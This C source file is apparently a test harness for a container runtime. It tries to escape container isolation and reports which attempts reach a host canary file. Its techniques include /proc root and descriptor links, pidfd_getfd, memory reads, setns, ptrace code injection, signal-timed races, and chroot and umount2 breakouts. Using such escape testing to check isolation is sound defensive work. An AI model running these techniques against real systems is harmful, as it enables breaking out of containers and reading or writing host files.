/*
 * A program of a container that wants out.
 *   spy watch PHASE CANARY DIRECTORY DEVICE…   tries on each new process all that a kernel may allow,
 *                                 and counts what of the host it reached for the phase in the file PHASE
 *   spy break CANARY DIRECTORY    tries to leave its own root: chroot(2), umount2(2), setns(2)
 * CANARY is a file and DIRECTORY a directory of the host that only its root may open. A regular file or
 * directory on a file system with the number DEVICE belongs to no container.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "inject.h"

#define UP8 "../../../../../../../../"
#define UP  UP8 UP8 UP8

struct process {
	pid_t pid;
	unsigned tries;
	int traced; /* how often, under this name */
	char name[32];
};

/* What the kernel permits without a file of the host being reached by it. */
enum { LINKS, FILES, MEMORY, GETFD, NAMESPACE, TRACE, SIGNAL, PERMITS };
static const char *const permit_names[] = {
	"links", "fds", "memory", "getfd", "namespace", "trace", "signal"};
static const char phases[] = "csed"; /* create, start, exec, delete */
static struct {
	unsigned long reached, seen, permits[PERMITS];
} totals[sizeof(phases)];
static struct process processes[512];
static size_t count;
static const char *canary, *directory;
static unsigned long devices[8];
static int device_count, phase, told;

static void name_of(pid_t pid, char name[32])
{
	char path[32];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	memset(name, 0, 32);
	if (fd >= 0 && read(fd, name, 31) > 0)
		name[strcspn(name, "\n")] = 0;
	close(fd);
}

static void permit(int what)
{
	totals[phase].permits[what]++;
}

static void reached(pid_t pid, const char *how, const char *what)
{
	char name[32];

	totals[phase].reached++;
	if (told++ >= 12)
		return;
	name_of(pid, name);
	printf("%c: %s by %s of %s\n", phases[phase], what, how, name);
	fflush(stdout);
}

/* The secret and the directory, below DIR or above it. To be refused them means to have found them. */
static int reaches(pid_t pid, int dir, const char *how)
{
	char path[4096], byte;

	for (int up = 0; up < 2; up++) {
		int fd, found;

		snprintf(path, sizeof(path), "%s%s", up ? UP : "./", canary + 1);
		fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
		found = fd >= 0 || errno == EACCES || errno == EPERM;
		if (!found)
			continue;
		reached(pid, how, read(fd, &byte, 1) == 1 ? "secret read" : "host's root found");
		close(fd);
		snprintf(path, sizeof(path), "%s%s/%d", up ? UP : "./", directory + 1, getpid());
		fd = openat(dir, path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
		if (fd >= 0)
			reached(pid, how, "file made");
		close(fd);
		return 1;
	}
	return 0;
}

/* A descriptor of somebody else; closes it. */
static void examine(pid_t pid, int fd, const char *how)
{
	struct stat status;
	int file;

	if (fd < 0 || fstat(fd, &status) < 0)
		return;
	file = S_ISREG(status.st_mode) || S_ISDIR(status.st_mode);
	if (!S_ISDIR(status.st_mode) || !reaches(pid, fd, how))
		for (int i = 0; i < device_count; i++)
			if (file && status.st_dev == devices[i])
				reached(pid, how, "file of the host opened");
	close(fd);
}

static int open_of(pid_t pid, const char *name, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	return open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
}

static void try_links(pid_t pid)
{
	static const char *const links[] = {"root", "cwd", "exe"};

	for (int i = 0; i < 3; i++) {
		int fd = open_of(pid, links[i], O_PATH);

		if (fd >= 0)
			permit(LINKS);
		examine(pid, fd, links[i]);
	}
}

static void try_files(pid_t pid)
{
	int fd = open_of(pid, "fd", O_RDONLY | O_DIRECTORY);
	DIR *dir = fd >= 0 ? fdopendir(fd) : NULL;
	struct dirent *entry;

	if (!dir)
		return;
	while ((entry = readdir(dir)))
		if (entry->d_name[0] != '.') {
			permit(FILES);
			examine(pid, openat(fd, entry->d_name, O_PATH | O_CLOEXEC), "fd");
		}
	closedir(dir);
}

static void try_getfd(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int i = 0; pidfd >= 0 && i < 72; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd < 0 && errno != EBADF)
			break;
		permit(GETFD);
		examine(pid, fd, "pidfd_getfd");
	}
	close(pidfd);
}

static void try_memory(pid_t pid)
{
	static const char *const names[] = {"mem", "environ", "maps"};
	char byte;
	struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};

	/* To open those of a process that has ended means nothing; an address that it lacks is EIO. */
	for (int i = 0; i < 3; i++) {
		int fd = open_of(pid, names[i], i ? O_RDONLY : O_RDWR);
		ssize_t n = pread(fd, &byte, 1, i ? 0 : 0x400000);

		if (n == 1 || (n < 0 && errno == EIO))
			permit(MEMORY);
		close(fd);
	}
	/* The right is looked at before the address. */
	if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1 || errno == EFAULT)
		permit(MEMORY);
}

/* In a child, because to enter a mount namespace changes the root. */
static void try_namespace(pid_t pid)
{
	int fd = open_of(pid, "ns/mnt", O_RDONLY), status = 0;
	struct stat its, mine;
	pid_t child;

	if (fd < 0)
		return;
	permit(NAMESPACE);
	if (!fstat(fd, &its) && !stat("/proc/self/ns/mnt", &mine) && its.st_ino != mine.st_ino) {
		child = fork();
		if (child == 0)
			_exit(!setns(fd, CLONE_NEWNS) && reaches(pid, AT_FDCWD, "setns"));
		if (waitpid(child, &status, __WALL) == child && status)
			totals[phase].reached++;
	}
	close(fd);
}

/* What was traced often under one name without gain is the container's own. */
static void try_trace(struct process *process)
{
	pid_t pid = process->pid;
	char path[256];
	int status;
	long err;

	if (process->traced > 4 || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	permit(TRACE);
	process->traced++;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || !stopped(pid, &status))
		return;
	err = remote_open(pid, canary, O_RDONLY);
	if (!err || err == -EACCES || err == -EPERM)
		reached(pid, "ptrace", err ? "host's root found" : "secret opened");
	snprintf(path, sizeof(path), "%s/%d", directory, getpid());
	if (!remote_open(pid, path, O_CREAT | O_WRONLY))
		reached(pid, "ptrace", "file made");
	ptrace(PTRACE_DETACH, pid, 0, status >> 16 ? 0 : WSTOPSIG(status));
}

/* Every second time the process is stopped meanwhile, if that is permitted: a weak moment lasts longer. */
static void try_all(struct process *process)
{
	pid_t pid = process->pid;
	char name[32];
	int stop;

	name_of(pid, name);
	if (strcmp(name, process->name))
		process->traced = 0;
	memcpy(process->name, name, sizeof(name));
	/* The test itself, in the host's pid namespace. */
	if (!strncmp(name, "bash", 4) || !strncmp(name, "bats", 4))
		return;
	if (!kill(pid, 0))
		permit(SIGNAL);
	stop = process->tries++ % 2 && !kill(pid, SIGSTOP);
	try_links(pid);
	try_getfd(pid);
	try_files(pid);
	try_memory(pid);
	try_namespace(pid);
	try_trace(process);
	if (stop)
		kill(pid, SIGCONT);
}

static void report(void)
{
	for (int i = 0; phases[i]; i++) {
		printf("phase %c %lu %lu", phases[i], totals[i].reached, totals[i].seen);
		for (int j = 0; j < PERMITS; j++)
			printf(" %s=%lu", permit_names[j], totals[i].permits[j]);
		printf("\n");
	}
	printf("end\n");
	fflush(stdout);
	memset(totals, 0, sizeof(totals));
	told = 0;
}

/* The last pid that was given in our pid namespace. */
static pid_t last_pid(int loadavg)
{
	char text[128] = "";
	ssize_t n = pread(loadavg, text, sizeof(text) - 1, 0);

	return n > 0 ? (pid_t)strtol(strrchr(text, ' ') + 1, NULL, 10) : 0;
}

static void look_for_new(int loadavg, pid_t *last)
{
	pid_t now = last_pid(loadavg), pid = now < *last ? 300 : *last + 1;

	for (; pid <= now && count < sizeof(processes) / sizeof(processes[0]); pid++)
		if (!kill(pid, 0) || errno == EPERM) {
			processes[count++] = (struct process){.pid = pid};
			totals[phase].seen++;
		}
	*last = now;
}

/* What goes on, as the test has written it: one of phases, "r" for a report, or anything else. */
static char look_at_phase(int file)
{
	const char *known;
	char now = 0;

	if (pread(file, &now, 1, 0) != 1 || !now)
		return 0;
	known = strchr(phases, now);
	if (known)
		phase = (int)(known - phases);
	return now;
}

static void round_of_tries(int file, int loadavg, pid_t *last)
{
	look_for_new(loadavg, last);
	for (size_t i = count; i-- > 0;) {
		struct process *process = &processes[i];

		if (!kill(process->pid, 0) || errno == EPERM) {
			look_at_phase(file);
			try_all(process);
			continue;
		}
		count--;
		memmove(process, process + 1, (count - i) * sizeof(*process));
	}
}

static int watch(const char *phase_path)
{
	int file = open(phase_path, O_RDONLY | O_CLOEXEC);
	int loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	pid_t last = last_pid(loadavg);

	if (file < 0 || !last)
		return 1;
	printf("ready\n");
	fflush(stdout);
	for (char old = 0, now;; old = now ? now : old) {
		while (waitpid(-1, NULL, WNOHANG) > 0)
			continue;
		now = look_at_phase(file);
		if (now == 'r' && old != 'r')
			report();
		if (now && strchr(phases, now)) {
			round_of_tries(file, loadavg, &last);
		} else {
			usleep(1000);
			last = last_pid(loadavg);
		}
	}
}

static int break_out(void)
{
	int own = (int)syscall(SYS_pidfd_open, getpid(), 0), out;
	int top = open("/", O_PATH | O_CLOEXEC);

	out = reaches(getpid(), AT_FDCWD, "nothing");
	if (!chroot("/tmp") && !fchdir(top) && !chdir(UP) && !chroot("."))
		out |= reaches(getpid(), AT_FDCWD, "chroot");
	for (int i = 0; i < 3 && !setns(own, CLONE_NEWNS); i++) {
		out |= reaches(getpid(), AT_FDCWD, i ? "umount and setns" : "setns");
		if (umount2("/", MNT_DETACH) < 0)
			break;
	}
	puts(out ? "out" : "in");
	return 0;
}

int main(int argc, char **argv)
{
	int watches = argc > 4 && !strcmp(argv[1], "watch");

	if (argc < 4)
		return 2;
	canary = argv[2 + watches];
	directory = argv[3 + watches];
	for (int i = 5; i < argc && device_count < 8; i++)
		devices[device_count++] = strtoul(argv[i], NULL, 10);
	return watches ? watch(argv[2]) : break_out();
}
